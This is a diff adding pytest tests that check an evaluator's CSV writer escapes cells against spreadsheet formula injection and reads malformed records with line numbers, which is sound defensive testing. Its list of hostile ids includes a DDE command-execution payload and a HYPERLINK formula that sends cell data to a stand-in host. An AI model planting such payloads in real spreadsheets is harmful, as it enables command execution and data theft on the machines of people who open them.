@@ -1,0 +1,105 @@
+""":mod:`evaluator.data.csv_files`: no cell the tool writes is one a spreadsheet runs, every
+value written comes back as it was (a seeded corpus of hostile ids: hypothesis is not
+installed), a hand-made sheet's plain ids read as they are, and one reader for cases and
+labels that takes cells of any length and names the line of a malformed record."""
+
+from __future__ import annotations
+
+import csv
+import io
+import random
+
+import pytest
+
+from evaluator.analysis.label_files import AgreementError, label_rows
+from evaluator.data.csv_files import csv_records, csv_text, read_cell, spreadsheet_cell
+
+# The ids of the review (issue 34), hospital ids that must stay as they are, and the
+# escape character itself.
+HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://e.vil/?"&A1)', "+1+1", "@SUM(A1)",
+           "-0042", "+44 20 7946 0000", "'", "''", "'=1+1", "''=1+1", "'plain", " =1+1",
+           "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
+           "\u3000=1+1", "a=1", "plain", "", " ", "=", "-", "case-0042", '"=1+1"']
+# What a spreadsheet runs: these first (after any whitespace), or a tab / carriage return.
+TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
+ALPHABET = TRIGGERS + "'\" ,\t\r\n\u3000abc019|!&()"
+
+
+def runnable(cell: str) -> bool:
+    """Whether a spreadsheet would take ``cell`` as a formula (OWASP's rule, with
+    whitespace before the trigger and the full-width triggers)."""
+    first = cell.lstrip()[:1]
+    return cell[:1] in ("\t", "\r") or (first != "" and first in TRIGGERS)
+
+
+def corpus(count: int = 4000, seed: int = 34) -> list[str]:
+    rng = random.Random(seed)
+    values = list(HOSTILE)
+    for _ in range(count):
+        head = "".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, 4)))
+        tail = "".join(rng.choice(ALPHABET + "xyz") for _ in range(rng.randint(0, 6)))
+        values.append(head + tail)
+    return values
+
+
+def write_sheet(path, values: list[str]) -> None:
+    """A sheet as ``review`` writes it: a header and one id per row."""
+    rows = [["case_id", "label"], *([v, str(i)] for i, v in enumerate(values))]
+    path.write_bytes(csv_text(rows).encode("utf-8"))
+
+
+def test_no_written_cell_is_a_formula(tmp_path):
+    values = corpus()
+    path = tmp_path / "sheet.csv"
+    write_sheet(path, values)
+    with path.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert len(cells) == 2 * (len(values) + 1)
+    assert not [cell for cell in cells if runnable(cell)]
+    # The named ids: the escape is one leading quote, nothing else changed.
+    link = '=HYPERLINK("http://e.vil/?"&A1)'
+    assert spreadsheet_cell(link) == "'" + link
+    assert spreadsheet_cell("-0042") == "'-0042" and spreadsheet_cell("case-1") == "case-1"
+
+
+def test_every_value_written_reads_back_as_it_was(tmp_path):
+    values = corpus()
+    path = tmp_path / "sheet.csv"
+    write_sheet(path, values)
+    rows = label_rows(path)  # the labels reader agree, estimate, review and compare use
+    assert [row["case_id"] for _, row in rows] == values
+    assert [row["label"] for _, row in rows] == [str(i) for i in range(len(values))]
+    assert all(read_cell(spreadsheet_cell(v)) == v for v in values)
+
+
+@pytest.mark.parametrize("plain", ["-0042", "+44 20 7946 0000", "'plain", "=1+1", "@x",
+                                   "case-7", " -3"])
+def test_a_hand_made_sheet_with_plain_ids_reads_as_typed(tmp_path, plain):
+    path = tmp_path / "hand.csv"
+    path.write_text(f"case_id,label\n\"{plain}\",1\n", encoding="utf-8")
+    assert label_rows(path) == [(2, {"case_id": plain, "label": "1"})]
+
+
+def test_one_reader_takes_any_cell_length_and_goes_on_after_a_bad_record():
+    previous = csv.field_size_limit(131072)  # Python's default, as in a fresh process
+    try:
+        long = "x" * 300_000
+        text = f'id,text\n1,"{long}"\n2,"a"b\n3,"line\nbreak"\n'
+        records = list(csv_records(io.StringIO(text, newline="")))
+    finally:
+        csv.field_size_limit(previous)
+    assert records[0] == (1, ["id", "text"])
+    assert records[1] == (2, ["1", long])
+    line, bad = records[2]
+    assert line == 3 and "CSV syntax error on line 3" in bad.describe()
+    assert records[3] == (4, ["3", "line\nbreak"])
+
+
+def test_a_malformed_labels_csv_is_one_line_naming_file_and_line(tmp_path):
+    path = tmp_path / "labels.csv"
+    path.write_text('case_id,label\nc1,1\nc2,"2\nc3,3\n', encoding="utf-8")
+    with pytest.raises(AgreementError) as error:
+        label_rows(path)
+    message = str(error.value)
+    assert "\n" not in message and str(path) in message
+    assert "line 3" in message and "never closed" in message
